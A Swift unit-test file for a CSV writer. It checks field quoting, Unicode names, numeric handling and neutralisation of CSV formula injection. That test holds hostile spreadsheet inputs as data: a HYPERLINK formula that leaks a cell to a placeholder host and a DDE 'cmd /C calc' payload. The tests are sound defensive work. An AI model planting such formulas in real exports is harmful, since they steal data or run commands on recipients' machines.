import Testing
@testable import FrontlineReports

@Suite struct CSVWriterTests {
    @Test func quotesWhatSpreadsheetsWouldMisread() {
        var csv = CSVWriter(header: ["trainee", "reply"])
        csv.append(["Whitfield, Dana", "She said \"no\"\nthen left"])
        csv.append(["مریم احمدی", "Jānis Bērziņš"])
        #expect(csv.text == "trainee,reply\r\n\"Whitfield, Dana\",\"She said \"\"no\"\"\nthen left\"\r\nمریم احمدی,Jānis Bērziņš\r\n")
    }

    @Test func plainFieldsStayPlain() {
        #expect(CSVWriter.escape("refund-request") == "refund-request")
        #expect(CSVWriter.escape(" padded") == "\" padded\"")
    }

    /// OWASP CSV injection: a reply that a spreadsheet would run as a formula.
    @Test func formulaLikeTextIsNeutralised() {
        #expect(CSVWriter.escape("=HYPERLINK(\"http://x/?\"&A1)") == "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"")
        #expect(CSVWriter.escape("+1+cmd|' /C calc'!A0") == "\"'+1+cmd|' /C calc'!A0\"")
        #expect(CSVWriter.escape("-2+3") == "\"'-2+3\"")
        #expect(CSVWriter.escape("@SUM(A1)") == "\"'@SUM(A1)\"")
        #expect(CSVWriter.escape("\t=1") == "\"'\t=1\"")
        #expect(CSVWriter.escape("\r=1") == "\"'\r=1\"")
        #expect(CSVWriter.escape("- sorry") == "\"'- sorry\"")
    }

    @Test func numbersStayNumbers() {
        for number in ["-12.5", "-3", "0", "72", "1e-05", "-1.5E+20"] {
            #expect(CSVWriter.escape(number) == number)
        }
        #expect(CSVWriter.escape("-") == "\"'-\"")
        #expect(CSVWriter.escape("-1.") == "\"'-1.\"")
    }
}
